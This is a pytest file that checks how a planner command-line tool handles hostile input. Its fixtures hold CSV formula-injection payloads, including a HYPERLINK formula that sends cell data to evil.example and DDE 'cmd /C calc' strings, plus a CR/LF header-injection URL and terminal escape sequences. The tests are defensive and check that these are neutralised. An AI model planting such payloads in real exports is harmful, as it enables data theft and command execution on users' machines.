"""Hostile files and hostile event content through the command line (issue 16, items 16-22)."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import icalendar
import pytest

from planner_async._cli import EXIT_USAGE
from planner_async._cli._progress import PlainDisplay
from planner_async.testing import FakePlanner

from support import run_cli, run_cli_served

pytestmark = pytest.mark.anyio

HOSTILE_TITLES = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tindented",
    "\rreturned",
]


def hostile_fake(**extra: Any) -> FakePlanner:
    """A fake holding events with formula titles, a CR/LF URL, ';' in categories and a
    title full of terminal escapes."""
    events: list[dict[str, Any]] = [
        {"id": n, "title": title, "startDate": f"2026-03-{n:02d}"}
        for n, title in enumerate(HOSTILE_TITLES, start=1)
    ]
    events += [
        {"id": 20, "title": "Budget day", "startDate": "2026-03-20", "url": "https://ok.test/"},
        {
            "id": 21,
            "title": "Bad link",
            "startDate": "2026-03-21",
            "url": "https://x.test/a\r\nX-EVIL:injected",
        },
        {"id": 22, "title": "Split", "startDate": "2026-03-22", "categories": ["A;B", "C"]},
        {"id": 23, "title": "Split", "startDate": "2026-03-23", "categories": ["A", "B;C"]},
        {
            "id": 24,
            "title": "Clear\x1b[2J\x1b]0;owned\x07 screen\r\nsecond line",
            "startDate": "2026-03-24",
        },
    ]
    return FakePlanner(events=events, **extra)


def one_line(err: str) -> str:
    """The single line ``err`` holds (the test fails on more)."""
    lines = err.strip().splitlines()
    assert 1 == len(lines), err
    return lines[0]


# -- item 16: an unusable --session-file ----------------------------------------------------


async def test_session_file_that_is_a_directory_fails_before_any_request(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``--session-file DIR`` exits 2 with one line naming it, and no request is sent."""
    fake = FakePlanner(events=3)
    code, _, err = await run_cli_served(
        fake, ["events", "--session-file", str(tmp_path)], monkeypatch
    )
    assert EXIT_USAGE == code
    assert "is a directory" in one_line(err)
    assert [] == fake.requests


async def test_session_file_under_a_file_fails_before_any_request(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A session file whose folder is a regular file exits 2 before any login."""
    (tmp_path / "plain").write_text("not a folder")
    fake = FakePlanner(events=3)
    argv = ["events", "--session-file", str(tmp_path / "plain" / "session.json")]
    code, _, err = await run_cli_served(fake, argv, monkeypatch)
    assert EXIT_USAGE == code
    assert "not a folder" in one_line(err)
    assert [] == fake.requests


# -- item 17: --output into a missing folder -------------------------------------------------


async def test_output_into_a_missing_folder_is_one_line_exit_2_before_any_request(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``-o missing/events.csv`` exits 2 with one line, no traceback, no request."""
    fake = FakePlanner(events=3)
    argv = ["events", "-o", str(tmp_path / "missing" / "events.csv")]
    code, _, err = await run_cli_served(fake, argv, monkeypatch)
    assert EXIT_USAGE == code
    assert "does not exist" in one_line(err)
    assert [] == fake.requests


# -- item 18: the output file's mode --------------------------------------------------------


@pytest.fixture
def umask() -> Iterator[None]:
    """Restore the process's umask after the test."""
    previous = os.umask(0o022)
    os.umask(previous)
    yield
    os.umask(previous)


@pytest.mark.usefixtures("umask")
def test_output_replacing_a_file_keeps_its_mode(tmp_path: Path) -> None:
    """``-o FILE`` over an existing 0640 file leaves it 0640 with the new content."""
    target = tmp_path / "events.jsonl"
    target.write_text("old\n")
    target.chmod(0o640)
    code, _, _ = run_cli(["events", "--demo", "--limit", "2", "-o", str(target)])
    assert 0 == code
    assert 0o640 == stat.S_IMODE(target.stat().st_mode)
    assert 2 == len(target.read_text().splitlines())


@pytest.mark.usefixtures("umask")
@pytest.mark.parametrize(("mask", "mode"), [(0o022, 0o644), (0o077, 0o600), (0o002, 0o664)])
def test_new_output_file_follows_the_umask(tmp_path: Path, mask: int, mode: int) -> None:
    """A new ``-o FILE`` gets 0666 less the umask, as a shell redirection would."""
    os.umask(mask)
    target = tmp_path / "events.jsonl"
    code, _, _ = run_cli(["events", "--demo", "--limit", "1", "-o", str(target)])
    assert 0 == code
    assert mode == stat.S_IMODE(target.stat().st_mode)


# -- item 19: a CR/LF URL in the iCalendar export --------------------------------------------


async def test_ics_export_survives_a_url_with_cr_lf(monkeypatch: pytest.MonkeyPatch) -> None:
    """One event whose URL holds CR/LF loses that URL only; every event is exported, no
    property is injected, and stderr says what was left out."""
    fake = hostile_fake()
    code, out, err = await run_cli_served(fake, ["events", "--format", "ics"], monkeypatch)
    assert 0 == code, err
    vevents = {
        str(v["UID"]).split("@")[0]: v for v in icalendar.Calendar.from_ical(out).walk("VEVENT")
    }
    assert {str(event["id"]) for event in fake.events} == vevents.keys()
    assert "URL" not in vevents["21"]
    assert "https://ok.test/" == str(vevents["20"]["URL"])
    assert "X-EVIL" not in out
    assert "1 URLs with control characters or spaces left out" in one_line(err)


# -- items 20 and 21: CSV formulas and list cells --------------------------------------------


@pytest.fixture
async def csv_rows(monkeypatch: pytest.MonkeyPatch) -> dict[str, dict[str, str]]:
    """The hostile events as CSV rows, by id."""
    code, out, err = await run_cli_served(
        hostile_fake(), ["events", "--format", "csv"], monkeypatch
    )
    assert 0 == code, err
    return {row["id"]: row for row in csv.DictReader(io.StringIO(out, newline=""))}


async def test_csv_neutralises_formulas(csv_rows: dict[str, dict[str, str]]) -> None:
    """A title starting with =, +, -, @, tab or CR gets a leading quote (OWASP); others not."""
    titles = [csv_rows[str(n)]["title"] for n in range(1, len(HOSTILE_TITLES) + 1)]
    assert ["'" + title for title in HOSTILE_TITLES] == titles
    assert "Budget day" == csv_rows["20"]["title"]


async def test_csv_list_cells_split_back_unambiguously(csv_rows: dict[str, dict[str, str]]) -> None:
    """Categories holding ';' come back item for item: the cell is a JSON array."""
    assert ["A;B", "C"] == json.loads(csv_rows["22"]["categories"])
    assert ["A", "B;C"] == json.loads(csv_rows["23"]["categories"])
    assert [] == json.loads(csv_rows["20"]["categories"])


# -- item 22: control characters on the terminal ----------------------------------------------


async def test_table_strips_control_characters(monkeypatch: pytest.MonkeyPatch) -> None:
    """``--format table`` sends no ESC, BEL or line break from a title: one line per event."""
    fake = hostile_fake()
    code, out, _ = await run_cli_served(fake, ["events", "--format", "table"], monkeypatch)
    assert 0 == code
    assert not any(char in out for char in "\x1b\x07\r\t")
    assert 1 + len(fake.events) == len(out.splitlines())
    assert "Clear[2J]0;owned screen  second line" in out


def test_progress_output_strips_control_characters() -> None:
    """A log line drawn above the progress display loses its ESC/BEL/CR characters."""
    stream = io.StringIO()
    display = PlainDisplay(stream, lambda: 80)
    display.print_above("retry \x1b[2J\x1b]0;owned\x07 done\rover\n")
    assert "retry [2J]0;owned done over\n" == stream.getvalue().replace("\r", "", 2)
